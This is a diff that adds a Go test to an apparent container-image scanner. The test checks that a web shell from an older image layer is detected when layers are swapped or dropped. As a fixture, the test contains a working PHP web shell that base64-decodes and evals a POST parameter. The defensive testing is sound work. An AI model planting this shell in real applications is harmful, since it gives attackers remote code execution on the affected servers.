@@ -217,3 +217,46 @@ func TestDiffVouchesOnlyForTheSameBytes(t *testing.T) {
 		t.Errorf("the recorded scan is not a whole one: %+v", rec)
 	}
 }
+
+// TestDiffAnalyzesWhatOlderLayersBringBack: a suspect that swaps two of the original's layers,
+// or drops the top one, shows an older version of a file, the original's own bytes, in place
+// of the one that replaced it: nothing is read for its tree only, and the web shell that older
+// version is, is among the findings about the change.
+func TestDiffAnalyzesWhatOlderLayersBringBack(t *testing.T) {
+	ctx := context.Background()
+	o, _, implant := vouchedPair()
+	base := o.Layers[0]
+	shell := layer("srv", 3, imagebuild.Dir("srv/app"), imagebuild.Reg("srv/app/config.php", "<?php $c = $_POST['c']; eval(base64_decode($c)); ?>\n"))
+	fixed := layer("srv", 4, imagebuild.Dir("srv/app"), imagebuild.Reg("srv/app/config.php", "<?php return ['debug' => false]; ?>\n"))
+	orig := imagebuild.Image{Tags: []string{"deb/app:1"}, Created: fleetTime, Layers: []imagebuild.Layer{base, shell, fixed}}
+	for _, tc := range []struct {
+		name   string
+		layers []imagebuild.Layer
+	}{
+		{"swapped", []imagebuild.Layer{base, fixed, shell}},
+		{"top layer dropped, another added", []imagebuild.Layer{base, shell, implant}},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			susp := imagebuild.Image{Tags: []string{"deb/app:2"}, Created: fleetTime, Layers: tc.layers}
+			w := workspace(t)
+			sc, err := w.NewScanner(ctx, casework.ScanOptions{})
+			if err != nil {
+				t.Fatal(err)
+			}
+			defer sc.Close()
+			res, done, err := w.DiffRefs(ctx, saveImage(t, orig), saveImage(t, susp), casework.DiffOptions{Scanner: sc}, nil)
+			if err != nil {
+				t.Fatal(err)
+			}
+			defer done()
+			if len(res.Scan.Vouched) != 0 {
+				t.Errorf("layers %v were read for their trees only", res.Scan.Vouched)
+			}
+			if !slices.ContainsFunc(res.Findings, func(f audit.Finding) bool {
+				return f.Path == "/srv/app/config.php" && f.Category == audit.CategoryWebshell
+			}) {
+				t.Errorf("the web shell brought back is not among the findings about the change: %v", keysOf(res.Findings, func(audit.Finding) bool { return true }))
+			}
+		})
+	}
+}
